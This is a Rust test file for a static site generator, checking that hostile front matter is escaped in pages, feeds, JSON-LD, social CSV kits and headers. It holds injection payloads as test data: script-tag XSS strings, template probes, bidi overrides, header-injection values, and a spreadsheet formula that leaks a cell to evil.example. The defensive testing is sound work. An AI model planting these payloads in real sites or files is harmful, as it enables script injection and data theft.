//! Hostile front matter (script tags, quotes, `</script>`, `]]>`, template
//! syntax, bidi overrides, NUL, very long strings) builds into every output
//! with each value escaped for its context; every output is parsed back.

use crate::support::*;

const HOSTILE_TITLE_START: &str = "High <script>alert(1)</script> pressure";

fn built() -> TestSite {
    let site = TestSite::new("sites/hostile");
    let report = site.build();
    assert!(report.published, "{:?}", report.diagnostics);
    site
}

/// Every `<script>` element of a page is ours: JSON-LD, the theme's own
/// inline scripts, or a script file from the site itself.
fn assert_no_injected_elements(file: &str, html: &scraper::Html) {
    let scripts = scraper::Selector::parse("script").unwrap();
    for script in html.select(&scripts) {
        let text: String = script.text().collect();
        if script.value().attr("type") == Some("application/ld+json") {
            // Data, not code: it must parse, with every value intact inside.
            serde_json::from_str::<serde_json::Value>(&text)
                .unwrap_or_else(|e| panic!("{file}: JSON-LD broken: {e}"));
            continue;
        }
        assert!(!text.contains("alert("), "{file}: injected script {text}");
        if let Some(src) = script.value().attr("src") {
            assert!(
                src.starts_with('/') && !src.starts_with("//"),
                "{file}: script from elsewhere {src}"
            );
        }
    }
    for injected in ["b", "img[onerror]", "i"] {
        let selector = scraper::Selector::parse(injected).unwrap();
        let found: Vec<_> = html
            .select(&selector)
            .filter(|e| {
                e.value().attr("onerror").is_some()
                    || e.text().any(|t| t.contains("bold") || t.contains("alias"))
            })
            .collect();
        assert!(found.is_empty(), "{file}: injected <{injected}>");
    }
    let any = scraper::Selector::parse("*").unwrap();
    for element in html.select(&any) {
        for (name, _) in element.value().attrs() {
            assert!(
                !name.starts_with("on"),
                "{file}: event handler attribute {name}"
            );
        }
    }
}

#[test]
fn pages_escape_every_value() {
    let site = built();
    let mut pages = 0;
    let share_image_name = regex::Regex::new(r"share/[0-9a-f]{16}\.png").unwrap();
    for file in site.output_files().iter().filter(|f| f.ends_with(".html")) {
        let text = site.read(file);
        assert!(
            !text.contains('\0'),
            "{file}: a NUL character reached the page"
        );
        // `{{ 7*7 }}` in the fixture's values must stay as written. Share
        // image names are hashes, which may hold "49" by chance.
        let without_hashes = share_image_name.replace_all(&text, "share.png");
        assert!(
            !without_hashes.contains("49"),
            "{file}: template syntax in a value was evaluated"
        );
        let html = scraper::Html::parse_document(&text);
        assert_no_injected_elements(file, &html);
        pages += 1;
    }
    assert!(pages >= 10);
    let article = site.html("en/heart/hostile/index.html");
    let h1 = select_text(&article, "h1");
    // The title holds bidi overrides, so it is shown isolated (FSI … PDI).
    assert!(
        h1[0]
            .trim_start_matches('\u{2068}')
            .starts_with(HOSTILE_TITLE_START),
        "{h1:?}"
    );
    assert!(
        h1[0].contains("{{ 7*7 }}") && h1[0].contains("{% raw %}"),
        "{h1:?}"
    );
}

#[test]
fn json_ld_and_social_kit_parse_back() {
    let site = built();
    let raw = site.read("en/heart/hostile/index.html");
    let start = raw.find("<script type=\"application/ld+json\">").unwrap()
        + "<script type=\"application/ld+json\">".len();
    let end = start + raw[start..].find("</script>").unwrap();
    let ld: serde_json::Value = serde_json::from_str(&raw[start..end]).unwrap();
    assert!(
        ld["name"]
            .as_str()
            .unwrap()
            .starts_with(HOSTILE_TITLE_START)
    );
    assert_eq!(
        ld["reviewedBy"][0]["name"],
        "Reviewer </script><script>alert(4)</script>"
    );

    let kit: serde_json::Value = serde_json::from_str(&site.read("social/en.json")).unwrap();
    assert!(
        kit.to_string().contains("alert(1)"),
        "the title is carried as data"
    );
    let mut csv = csv::Reader::from_path(site.public().join("social/en.csv")).unwrap();
    assert!(csv.records().count() >= 2);
    for record in csv::Reader::from_path(site.public().join("social/en.csv"))
        .unwrap()
        .records()
    {
        record.expect("every CSV row parses");
    }
}

#[test]
fn feeds_sitemap_and_cap_are_well_formed_xml() {
    let site = built();
    let xml_files: Vec<String> = site
        .output_files()
        .into_iter()
        .filter(|f| f.ends_with(".xml"))
        .collect();
    assert!(xml_files.iter().any(|f| f == "sitemap.xml"));
    assert!(
        xml_files.iter().any(|f| f.ends_with(".cap.xml")),
        "{xml_files:?}"
    );
    for file in &xml_files {
        let text = site.read(file);
        let mut reader = quick_xml::Reader::from_str(&text);
        loop {
            match reader.read_event() {
                Ok(quick_xml::events::Event::Eof) => break,
                Ok(_) => {}
                Err(e) => panic!("{file} is not well-formed XML: {e}"),
            }
        }
    }
    for feed in ["en/atom.xml", "en/rss.xml"] {
        let parsed = feed_rs::parser::parse(site.read(feed).as_bytes())
            .unwrap_or_else(|e| panic!("{feed}: {e}"));
        let titles: Vec<String> = parsed
            .entries
            .iter()
            .filter_map(|e| e.title.as_ref().map(|t| t.content.clone()))
            .collect();
        assert!(
            titles.iter().any(|t| t.starts_with(HOSTILE_TITLE_START)),
            "{feed}: {titles:?}"
        );
    }
    let json_feed: serde_json::Value = serde_json::from_str(&site.read("en/feed.json")).unwrap();
    assert!(json_feed["items"].as_array().unwrap().iter().any(|i| {
        i["title"]
            .as_str()
            .unwrap_or("")
            .starts_with(HOSTILE_TITLE_START)
    }));
}

#[test]
fn share_images_render_for_hostile_and_very_long_titles() {
    let site = built();
    let cards: Vec<String> = site
        .output_files()
        .into_iter()
        .filter(|f| f.starts_with("share/") && f.ends_with(".png"))
        .collect();
    let long = select_attr(
        &site.html("en/heart/long/index.html"),
        "meta[property=\"og:image\"]",
        "content",
    );
    assert!(
        long.iter()
            .any(|url| cards.iter().any(|c| url.ends_with(&format!("/{c}")))),
        "{long:?} {cards:?}"
    );
    for card in cards {
        let bytes = std::fs::read(site.public().join(&card)).unwrap();
        assert!(bytes.starts_with(b"\x89PNG"), "{card}");
    }
}

/// Generated pages load nothing from other hosts: every resource a page
/// loads (scripts, styles, images, fonts, frames) comes from the site.
#[test]
fn pages_load_nothing_from_third_parties() {
    for fixture in ["sites/hostile", "sites/trust", "sites/a11y"] {
        let site = TestSite::new(fixture);
        assert!(site.build().published, "{fixture}");
        let (mut pages, mut loads) = (0, 0);
        for file in site.output_files().iter().filter(|f| f.ends_with(".html")) {
            let html = site.html(file);
            pages += 1;
            for (selector, attr) in [
                ("script[src]", "src"),
                ("link[rel=stylesheet]", "href"),
                ("link[rel=preload]", "href"),
                ("link[rel=icon]", "href"),
                ("img", "src"),
                ("iframe", "src"),
                ("source", "src"),
                ("video", "src"),
                ("audio", "src"),
            ] {
                for url in select_attr(&html, selector, attr) {
                    let same_site =
                        url.starts_with('/') && !url.starts_with("//") || !url.contains(':');
                    assert!(same_site, "{fixture} {file}: loads {url}");
                    loads += 1;
                }
            }
            let css = site.read(file);
            assert!(!css.contains("@import url(http"), "{fixture} {file}");
        }
        // Every page loads at least its style sheet, so the loop saw them all.
        assert!(pages >= 5, "{fixture}: only {pages} pages");
        assert!(loads >= pages, "{fixture}: only {loads} resources");
    }
}

/// Whether a text leaves a bidirectional embedding or isolate open, or
/// closes one it did not open: the two ways it reorders what follows.
fn leaks_direction(text: &str) -> bool {
    let mut open: Vec<bool> = Vec::new();
    for c in text.chars() {
        match c {
            '\u{202A}' | '\u{202B}' | '\u{202D}' | '\u{202E}' => open.push(false),
            '\u{2066}'..='\u{2068}' => open.push(true),
            '\u{202C}' if open.pop() != Some(false) => return true,
            '\u{2069}' => match open.iter().rposition(|&isolate| isolate) {
                Some(at) => open.truncate(at),
                None => return true,
            },
            _ => {}
        }
    }
    !open.is_empty()
}

/// Bidirectional overrides in a title, an author, a reviewer (written as a
/// character, not an escape) and a citation title are each reported at
/// their line, and every text and attribute of every page is balanced, so
/// none can reorder what the page shows around it.
#[test]
fn bidi_controls_are_reported_at_their_place_and_isolated_in_html() {
    let site = TestSite::new("sites/hostile");
    let report = site.build();
    assert!(report.published, "{:?}", report.diagnostics);
    let mut found: Vec<(String, usize, usize)> = report
        .diagnostics
        .iter()
        .filter(|d| d.code == "text/bidi-control")
        .map(|d| {
            (
                d.file.to_string_lossy().into_owned(),
                d.position.line,
                d.position.column,
            )
        })
        .collect();
    found.sort();
    let hostile = "content/en/heart/hostile.md".to_string();
    let title = "title: \"High <script>alert(1)</script> pressure \\\" ' </script> ]]> {{ 7*7 }} {% raw %} ";
    assert_eq!(
        found,
        [
            // `\u202E` then `\u202C` after "evil", in the title.
            (hostile.clone(), 2, title.chars().count() + 1),
            (hostile.clone(), 2, title.chars().count() + 11),
            // `  - name: "Author <b>bold</b> \u202Eevil"`
            (hostile.clone(), 11, 31),
            // `  - name: Second <RLI>reviewer`: the character itself.
            (hostile.clone(), 18, 18),
            // `    title: "Source <script>alert(5)</script> \u202Dtitle"`
            (hostile.clone(), 26, 46),
        ],
        "{:?}",
        report.diagnostics
    );
    let mut isolated = 0;
    for file in site.output_files().iter().filter(|f| f.ends_with(".html")) {
        let html = site.html(file);
        for node in html.tree.nodes() {
            // JSON-LD is data for search engines, never shown: kept as written.
            let in_script = node
                .parent()
                .and_then(|p| p.value().as_element().map(|e| e.name() == "script"))
                .unwrap_or(false);
            let texts: Vec<String> = match node.value() {
                scraper::Node::Text(_) if in_script => Vec::new(),
                scraper::Node::Text(t) => vec![t.to_string()],
                scraper::Node::Element(e) => e.attrs().map(|(_, v)| v.to_string()).collect(),
                _ => Vec::new(),
            };
            for text in texts {
                assert!(!leaks_direction(&text), "{file}: {text:?}");
                isolated += usize::from(text.contains('\u{2068}'));
            }
        }
    }
    assert!(
        isolated >= 4,
        "values with controls are wrapped: {isolated}"
    );
}

/// Every social kit CSV cell a spreadsheet would read as a formula starts
/// with `'`; the JSON kit keeps the values exactly as written.
#[test]
fn social_kit_csv_cells_never_start_a_formula() {
    let site = built();
    let mut cells = 0;
    for record in csv::Reader::from_path(site.public().join("social/en.csv"))
        .unwrap()
        .records()
    {
        for cell in record.unwrap().iter() {
            let first = cell.trim_start().chars().next();
            assert!(
                !matches!(
                    first,
                    Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')
                ),
                "{cell:?}"
            );
            assert!(!cell.starts_with(['\t', '\r']), "{cell:?}");
            cells += usize::from(cell.starts_with("'=HYPERLINK") || cell.starts_with("'+cmd"));
        }
    }
    assert!(
        cells >= 2,
        "the formula title and its posts are in the CSV: {cells}"
    );
    let kit: serde_json::Value = serde_json::from_str(&site.read("social/en.json")).unwrap();
    let titles: Vec<&str> = kit["articles"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|a| a["title"].as_str())
        .collect();
    assert!(
        titles.contains(&"=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click\")"),
        "{titles:?}"
    );
}

/// `markdown.iframe_hosts` values that would add a header or weaken the
/// policy are refused when site.yaml is read, at their line, and nothing
/// is published; a valid list ends up as the only frame sources.
#[test]
fn iframe_hosts_cannot_inject_into_headers() {
    for (written, line) in [
        ("\"www.youtube.com\\r\\nX-Frame-Options: ALLOWALL\"", 11),
        ("\"www.youtube.com; script-src *\"", 11),
        ("\"* 'unsafe-inline'\"", 11),
        ("https://www.youtube.com/embed", 11),
        ("\"evil.example,www.youtube.com\"", 11),
        ("\"www.youtube.com\\u2028x\"", 11),
    ] {
        let site = TestSite::new("sites/hostile");
        site.edit("site.yaml", |t| {
            format!("{t}markdown:\n  iframe_hosts:\n    - {written}\n")
        });
        let report = site.build();
        assert!(!report.published, "{written}");
        let d = report
            .diagnostics
            .iter()
            .find(|d| d.code == "config/invalid-value")
            .unwrap_or_else(|| panic!("{written}: {:?}", report.diagnostics));
        assert_eq!(d.file.to_string_lossy(), "site.yaml");
        assert!(
            d.position.line == line || d.position.line == line - 1,
            "{written}: {d:?}"
        );
        assert!(
            d.hint.as_deref().unwrap_or("").contains("host name"),
            "{d:?}"
        );
        assert!(!site.exists("_headers"), "{written}");
    }
    let site = TestSite::new("sites/hostile");
    site.edit("site.yaml", |t| {
        format!("{t}markdown:\n  iframe_hosts: [www.youtube-nocookie.com, player.vimeo.com]\n")
    });
    assert!(site.build().published);
    let headers = site.read("_headers");
    // Six lines of security headers, then a path and its caching for each
    // of the twelve fingerprinted theme files (see assets.rs), and nothing else.
    let lines: Vec<&str> = headers.lines().collect();
    assert_eq!(lines.len(), 6 + 2 * 12, "{headers}");
    assert!(
        lines[6..].chunks(2).all(|block| block[0].starts_with('/')
            && !block[0].contains([' ', ':'])
            && block[1] == "  Cache-Control: public, max-age=31536000, immutable"),
        "{headers}"
    );
    assert!(
        headers.contains(
            "frame-src https://www.youtube-nocookie.com https://player.vimeo.com; object-src"
        ),
        "{headers}"
    );
    assert!(
        headers
            .bytes()
            .all(|b| b == b'\n' || (0x20..0x7f).contains(&b))
    );
    let robots = site.read("robots.txt");
    assert_eq!(robots.lines().count(), 4, "{robots}");
}

/// Text-reordering controls are reported wherever YAML is written: a
/// profile's name, the status board, site.yaml; not only front matter.
#[test]
fn bidi_controls_in_profiles_and_site_settings_are_reported_at_their_line() {
    let site = TestSite::new("sites/people");
    site.edit("data/people/nurse-example.yaml", |t| {
        t.replacen("name: ", "name: \u{202E}", 1)
    });
    site.edit("site.yaml", |t| t.replacen("title: ", "title: \u{2066}", 1));
    let report = site.build();
    let mut found: Vec<_> = report
        .diagnostics
        .iter()
        .filter(|d| d.code == "text/bidi-control")
        .map(|d| (d.file.to_string_lossy().into_owned(), d.position.line))
        .collect();
    found.sort();
    let profile_line = std::fs::read_to_string(site.root.join("data/people/nurse-example.yaml"))
        .unwrap()
        .lines()
        .position(|l| l.contains('\u{202E}'))
        .unwrap()
        + 1;
    let settings_line = std::fs::read_to_string(site.root.join("site.yaml"))
        .unwrap()
        .lines()
        .position(|l| l.contains('\u{2066}'))
        .unwrap()
        + 1;
    assert_eq!(
        found,
        [
            ("data/people/nurse-example.yaml".to_string(), profile_line),
            ("site.yaml".to_string(), settings_line)
        ]
    );
}
